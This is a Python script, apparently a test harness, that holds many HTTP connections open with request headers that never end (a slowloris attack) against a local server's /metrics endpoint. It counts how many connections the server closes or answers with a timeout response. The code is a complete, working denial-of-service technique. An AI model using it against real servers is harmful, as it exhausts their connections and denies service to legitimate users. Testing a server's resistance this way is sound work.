"""A slowloris on an HTTP port: N connections, each with a request whose header never ends.

usage: slowloris.py PORT N
phase 1: opens N connections (non-blocking, 5 s for all), sends "GET /metrics HTTP/1.1" and a Host
         line on each, then one more header line every 2 s (a slowloris keeps the header going so
         that an idle timeout alone does not end it)
         -> {"opened", "connect_failed"}; keeps dribbling until a line on stdin
phase 2: -> {"open", "closed_by_server", "answered"} (answered: the server sent a response, e.g. 408)
"""
import errno, json, select, socket, sys, time

port, n = int(sys.argv[1]), int(sys.argv[2])
pending = {}
for i in range(n):
    s = socket.socket()
    s.setblocking(False)
    if s.connect_ex(("127.0.0.1", port)) in (0, errno.EINPROGRESS):
        pending[s.fileno()] = s
    else:
        s.close()
poller = select.epoll()
for fd in pending:
    poller.register(fd, select.EPOLLOUT)
live = {}
deadline = time.monotonic() + 5
while pending and time.monotonic() < deadline:
    for fd, _ in poller.poll(0.1):
        s = pending.pop(fd)
        poller.unregister(fd)
        if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
            try:
                s.send(b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\n")
                live[fd] = s
                poller.register(fd, select.EPOLLIN)
                continue
            except OSError:
                pass
        s.close()
failed = n - len(live)
for s in pending.values():
    s.close()
print(json.dumps({"opened": len(live), "connect_failed": failed}), flush=True)

closed, answered = 0, 0
def reap(timeout):
    global closed, answered
    for fd, _ in poller.poll(timeout):
        s = live.pop(fd)
        poller.unregister(fd)
        try:
            if s.recv(4096).startswith(b"HTTP/"):
                answered += 1
        except OSError:
            pass
        closed += 1
        s.close()

last_dribble = time.monotonic()
while True:
    r, _, _ = select.select([sys.stdin], [], [], 0)
    if r:
        sys.stdin.readline()
        break
    reap(0.2)
    if time.monotonic() - last_dribble >= 2:
        last_dribble = time.monotonic()
        for s in live.values():
            try:
                s.send(b"X-Slow: 1\r\n")
            except OSError:
                pass
reap(0)
print(json.dumps({"open": len(live), "closed_by_server": closed, "answered": answered}), flush=True)
for s in live.values():
    s.close()
